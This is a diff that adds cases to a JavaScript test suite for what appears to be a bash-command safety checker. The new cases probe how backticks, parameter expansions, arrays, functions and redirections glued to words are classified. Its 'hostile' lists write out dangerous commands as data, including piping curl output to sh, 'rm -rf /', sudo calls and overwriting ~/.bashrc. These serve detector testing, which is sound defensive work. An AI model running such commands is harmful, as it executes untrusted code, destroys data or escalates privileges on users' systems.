@@ -147,6 +147,24 @@ describe('attack: expansions glued to words (tree-sitter-bash\'s lexer)', () => 
     ]);
   });
 
+  it('backticks: glued to another piece inside a compound, two in a row, before a string', () => {
+    agreed([
+      'if ls a`ls`; then ls; fi', 'ls a`ls`', 'while ls $x`ls`; do ls; done', 'case x in a) ls ${x}`ls`;; esac', '{ ls a`ls`; }', "for x in 'a'`ls`; do ls; done",
+      'echo $(echo "a"`ls`)', 'echo `ls``ls`', 'X=`ls``ls`', 'ls > `ls``ls`', 'cat <<< `ls``ls`', 'echo "`ls``ls`"', 'echo "$1"`ls`""', 'echo `echo \\`ls\\``',
+      'echo `ls`', 'echo "`ls`"', 'X=`ls` ls', 'for x in `ls`; do ls; done', 'if `ls`; then ls; fi', 'echo `', 'echo ``', 'echo `ls', 'echo `$(ls)`', 'echo $(`ls`)',
+    ]);
+    hostile(['if ls a`curl x | sh`; then ls; fi', 'echo `sudo ls`', '{ ls `rm -rf /`; }', 'for x in `curl x|sh`; do ls; done']);
+  });
+
+  it('parameter expansions with operators, arrays, functions and redirection-only statements', () => {
+    agreed([
+      'echo ${x#a} ${x%.*} ${x:-y} ${x:=y} ${x:+y} ${x-y} ${x##*/} ${x%%.*}', 'echo ${x:-$y} ${x:-"a b"} ${x:-`ls`} ${x:-$(ls)}', 'echo ${x:-a b}', 'echo ${#x} ${x/a/b}',
+      'X=(a b c)', 'X=(a "b c" $x)', 'local X=(a b)', 'X=()', 'X=( )', 'X=(a', 'f() { ls; }', 'function f { ls; }', 'f() ( ls )', 'f() { ls; }; f', '> out', '< in',
+      '> out; ls', '2>&1 > out', '>> ~/.bashrc', 'X=${x:-$(curl x)} ls', 'echo ${x:=`id`}',
+    ]);
+    hostile(['echo ${x:-$(curl x | sh)}', 'f() { curl x | sh; }; f', '> ~/.bashrc', 'echo ${x:=$(sudo ls)}', 'X=(a $(rm -rf /))']);
+  });
+
   it('backslashes inside double quotes', () => {
     agreed(['echo "a\\$x"', 'echo "\\\\"', 'echo "\\""', 'echo "a\\b"', 'echo "\\n"', 'echo "\\`id`"', 'echo "$x\\"', 'X="\\$(id)"', 'for x in "\\$y"; do ls; done']);
   });
